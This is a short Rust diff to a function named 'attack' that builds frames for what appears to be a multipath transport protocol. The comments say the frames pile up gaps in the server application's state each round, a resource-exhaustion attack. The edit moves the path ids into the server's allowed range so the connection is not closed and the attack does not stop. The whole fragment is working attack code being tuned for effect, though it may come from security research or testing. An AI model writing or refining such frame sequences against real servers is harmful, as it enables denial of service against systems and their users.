@@ -32,7 +32,9 @@ fn attack(k: u64) -> Vec<Frame> {
         // so each is taken: 1 024 more gaps for the server's application every round.
         Frame::Abandon { offset: 0, next_message: k * 1_024 },
         Frame::PathNewCid {
-            path: PathId(1_000 + (k % 1_000_000) as u32),
+            // Within the server's maximum path id (ids 0 to 7): one above it would close
+            // the connection at once (RFC 10069), and the attack would stop.
+            path: PathId(1 + (k % 7) as u32),
             seq: 0,
             cid: k.wrapping_mul(0x9e37_79b9_7f4a_7c15),
             reset_token: [k as u8; 16],
